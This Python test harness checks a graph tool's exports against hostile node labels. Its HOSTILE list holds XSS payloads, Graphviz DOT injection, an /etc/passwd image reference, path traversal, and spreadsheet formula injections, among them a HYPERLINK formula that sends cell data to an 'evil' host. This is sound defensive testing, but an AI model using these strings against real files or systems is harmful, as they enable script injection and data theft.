"""Names made to break readers, and what is left of them in the forms that the program writes
(docs/formats.md)."""
import csv
import importlib.util
import os
import shutil
import sqlite3
import subprocess
import sys

# One name for each thing that some reader or viewer would act on.
HOSTILE = [
    "plain", 'Joe "The Knife" O\'Hara', "C:\\dir\\", '\\" ]; evil [label="x', "\\N \\G \\E \\l",
    '"]; } digraph x { a -> b', "<b>bold</b>", '<<TABLE><TR><TD><IMG SRC="/etc/passwd"/></TD></TR>',
    "graph", "strict", "-.5e3", "a /* b */ // c # d", "a:b:ne", "{a|<p>b|c}",
    "<script>alert(1)</script>", "</text></svg><svg onload=alert(1)>", "]]>", "--> <x>",
    "&lt; &#0; &amp;amp; &xxe;", "' onmouseover='alert(1)", "=1+1", "+1", "@SUM(A1)", "\uff1d1+1",
    "=HYPERLINK(\"http://evil/?\"&A1,\"x\")", " =1+1", "\u00a0=1+1", "a,b;c", "null", "NaN", "__proto__",
    "日本", "e\u0301", "\U0001d4d9oe", "Lаvrov", "*Vertices 3", "2022-01-21", "%s%n", "${x}", "../../etc",
    "\\\\ [2cm] & x % y", "``a'' -- b --- ?`", "see www.evil.example now", "1) \\# _a_ **b** ~~c~~ ![d](e)",
]


def check(condition, what):
    if not condition:
        print("FAILED:", what)
        sys.exit(1)


def run(*command):
    done = subprocess.run(command, capture_output=True, text=True)
    check(done.returncode == 0, f"{' '.join(command)[:300]}: {done.stderr}")
    return done.stdout


def kit_labels(source):
    """The labels of the kit of bad inputs by name, where its maker is at hand."""
    shared = os.environ.get("ENTENTE_SHARED", os.path.join(source, "..", "shared"))
    path = os.path.join(shared, "hostile", "make_hostile.py")
    if not os.path.exists(path):
        print("left out: the kit's labels, for there is no ../shared/hostile")
        return {}
    spec = importlib.util.spec_from_file_location("make_hostile", path)
    kit = importlib.util.module_from_spec(spec)
    sys.dont_write_bytecode = True
    spec.loader.exec_module(kit)
    return kit.LABELS


def edge_list(path, labels):
    """Ties of different weight from each label to a hub."""
    with open(path, "w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["source", "target", "weight"])
        for i, name in enumerate(labels):
            writer.writerow([name, "hub", (i + 1) / 8])
    return path


def shown(text):
    """What is left of a label where no control characters may stand."""
    out = ""
    for c in text:
        point = ord(c)
        if point < 0x20 or 0x7f <= point < 0xa0 or point in (0x2028, 0x2029):
            out += " "
        elif not (point in (0x200b, 0xfeff, 0x61c, 0x200e, 0x200f) or 0x202a <= point <= 0x202e or
                  0x2066 <= point <= 0x2069 or point & 0xfffe == 0xfffe):
            out += c
    return out


def exported(text):
    """The same in exports, where NUL stands as the sign for what is no character."""
    return shown(text.replace("\0", "\ufffd"))


def cut(text, most):
    """At most so many bytes, the last of them an ellipsis if some are left out."""
    if len(text.encode()) <= most:
        return text
    return text.encode()[:most - len("…".encode())].decode(errors="ignore") + "…"


def unguarded(cell):
    return cell[1:] if cell.startswith("'") else cell


class Graph:
    """A hub tied to actors of given labels, in a store; `plain` is the same with harmless ones."""

    def __init__(self, program, folder, name, labels):
        self.program, self.folder, self.labels = program, folder, labels + ["hub"]
        self.plain, self.hostile = (os.path.join(folder, f"{name}.{kind}.entente") for kind in ("plain", "hostile"))
        numbered = [f"actor {i:04}" for i in range(len(labels))]
        run(program, "import", edge_list(os.path.join(folder, name + ".csv"), numbered), "-o", self.plain)
        shutil.copy(self.plain, self.hostile)
        with sqlite3.connect(self.hostile) as database:
            database.executemany("UPDATE imported_nodes SET label = ? WHERE number = ?",
                                 [(label, number) for number, label in enumerate(labels)])

    def write(self, command, ending, *more):
        """What a command writes for the hostile labels and for the harmless ones."""
        out = []
        for store in (self.hostile, self.plain):
            path = os.path.join(self.folder, "out" + ending)
            run(self.program, "-q", command, store, *more, "-o", path)
            with open(path, "rb") as file:
                out.append(file.read())
        return out

    def list(self, form):
        return [run(self.program, "rank", store, "--top", "0", "--format", form) for store in (self.hostile, self.plain)]


def named(text, number):
    """A label as exports have it: readers drop what is empty, so that then the id stands there."""
    return exported(text) if exported(text).strip(" ") else f"n{number}"


def by_id(labels):
    return {f"n{i}": named(label, i) for i, label in enumerate(labels)}
